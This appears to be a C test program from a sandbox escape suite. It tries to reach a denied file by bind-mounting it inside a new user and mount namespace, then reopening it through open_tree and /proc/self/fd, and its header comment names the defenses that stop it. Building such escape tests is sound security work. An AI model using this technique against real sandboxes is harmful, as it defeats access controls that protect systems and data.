/* Attack: disguise a denied file's path in a mount namespace of the guest's
 * own. unshare(CLONE_NEWUSER|CLONE_NEWNS) (not refused by the filter) gives
 * CAP_SYS_ADMIN over a copy of the mounts; a bind mount there puts the
 * denied directory (or file) under an allowed name. Opens are still
 * brokered and resolved in the gofer's namespace, where the new name is
 * empty, but open_tree(path, 0) gives an O_PATH fd without the broker, and
 * the supervisor reopens /proc/self/fd/N after deciding on its link text,
 * which names the allowed path of the guest's namespace.
 *
 * Stops it (should): deciding the reopen on what the fd is (compare with
 * what the gofer resolves), not on its link text; refusing unshare/clone of
 * namespaces and open_tree in the filter (layer 3).
 * Natively: the bind shows the file under the new name and it reads
 * (ESCAPED).
 *
 * Usage: nested_bind TOKEN DENIED_SOURCE NAME_BELOW_OR_-
 *   (DENIED_SOURCE a directory and NAME the file in it, or a file and "-")
 */
#include <limits.h>
#include <linux/mount.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "escape.h"

int main(int argc, char **argv)
{
	escape_init(argc, argv, "nested-bind", 2, "DENIED_SOURCE NAME|-");
	static char attack[128];
	const char *source = argv[2], *name = argv[3];
	bool file = strcmp(name, "-") == 0;
	snprintf(attack, sizeof(attack), "nested-bind(%s)", source);
	escape_attack = attack;
	char view[64], path[PATH_MAX], fdpath[64];
	snprintf(view, sizeof(view), "esc-view-%d", (int)getpid());
	if (file) {
		int fd = open(view, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
		if (fd < 0)
			setup_failed("creating %s: %s", view, strerror(errno));
		close(fd);
		snprintf(path, sizeof(path), "%s", view);
	} else {
		if (mkdir(view, 0700) < 0)
			setup_failed("mkdir %s: %s", view, strerror(errno));
		snprintf(path, sizeof(path), "%s/%s", view, name);
	}
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
		escape_note("unshare(NEWUSER|NEWNS): %s", strerror(errno));
		contained();
	}
	if (mount(source, view, NULL, MS_BIND, NULL) < 0) {
		escape_note("bind %s on %s: %s", source, view, strerror(errno));
		contained();
	}
	try_open("bind + open", path);
	int fd = (int)syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLOEXEC);
	if (fd < 0) {
		escape_note("open_tree %s: %s", path, strerror(errno));
		contained();
	}
	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
	try_open("bind + open_tree + /proc/self/fd/N", fdpath);
	contained();
}
